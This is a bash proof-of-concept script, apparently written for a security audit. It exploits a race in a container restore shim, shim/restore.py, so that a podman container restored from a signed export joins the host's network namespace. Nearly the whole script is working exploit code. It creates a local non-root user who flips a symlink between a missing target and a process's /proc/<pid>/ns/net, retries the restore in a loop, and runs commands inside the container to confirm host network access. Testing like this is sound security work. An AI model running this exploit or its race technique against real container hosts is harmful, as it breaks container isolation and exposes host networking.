#!/bin/bash
# attack30k: HOLE G by a race: host_namespace_joins (shim/restore.py) stats spec.dump's namespace path once and skips
# a path that is not there ("the runtime fails to join it"); runc opens the path afterwards. A LOCAL NON-ROOT USER
# (attack30k, made here, removed after) flips its own /tmp/attack30k-u/net between a missing target and
# /proc/<its own sleep>/ns/net (the host's netns: every plain user process is in it). SIGNED export, default policy.
set -u; export CONTAINERS_CONF=/var/tmp/attack30k/dcontainers.conf
# NOSIG=1: the signature dropped, restore:any (containers.conf -> rt.sh); ALL=1: count every try, no stop at the first
[ "${NOSIG:-0}" = 1 ] && export CONTAINERS_CONF=/var/tmp/attack30k/containers.conf
D=/var/tmp/attack30k; H=$(dirname "$(readlink -f "$0")"); cd $D
id attack30k >/dev/null 2>&1 || useradd -M -s /usr/sbin/nologin attack30k
/usr/lib/gpuckpt/venv/bin/python3 $H/netjoin.py bsrc.tar.zst netrace.tar.zst /tmp/attack30k-u/net
runuser -u attack30k -- /usr/bin/python3 -c "
import os, subprocess, time
os.makedirs('/tmp/attack30k-u', exist_ok=True)
sp = subprocess.Popen(['sleep', '${RACE_S:-300}'])
open('/tmp/attack30k-u/sleep.pid', 'w').write(str(sp.pid))
host, gone = '/proc/%d/ns/net' % sp.pid, '/tmp/attack30k-u/gone'
end = time.time() + ${RACE_S:-300}
while time.time() < end:
    for target, pause in ((gone, ${ABSENT_S:-0.004}), (host, ${PRESENT_S:-0.004})):
        os.symlink(target, '/tmp/attack30k-u/.n'); os.replace('/tmp/attack30k-u/.n', '/tmp/attack30k-u/net')
        time.sleep(pause)
sp.kill()
" & FLIP=$!
sleep 1; echo "host netns $(readlink /proc/self/ns/net); the user's link: $(stat -c '%U %N' /tmp/attack30k-u/net)"
for i in $(seq 1 ${TRIES:-15}); do
  podman rm -f -t 0 attack30k-src >/dev/null 2>&1
  out=$(timeout 100 podman container restore --import netrace.tar.zst 2>&1 | tail -1 | cut -c1-230)
  PID=$(podman inspect attack30k-src --format '{{.State.Pid}}' 2>/dev/null)
  ns=$([ "${PID:-0}" != 0 ] && readlink /proc/$PID/ns/net)
  echo "try $i ($(date -u +%T)): $out | container netns: ${ns:-none}"
  if [ "$ns" = "$(readlink /proc/self/ns/net)" ]; then
    echo "RESTORED IN THE HOST'S NETNS (signed export, default policy, a non-root user's race), try $i"
    podman exec attack30k-src sh -c 'cat /proc/net/dev | cut -c1-30; cat /proc/net/unix | wc -l' 2>&1
    [ "${ALL:-0}" = 1 ] || break
  fi
done
kill $FLIP; wait $FLIP 2>/dev/null; kill $(cat /tmp/attack30k-u/sleep.pid) 2>/dev/null; rm -rf /tmp/attack30k-u
podman rm -f -t 0 attack30k-src >/dev/null 2>&1
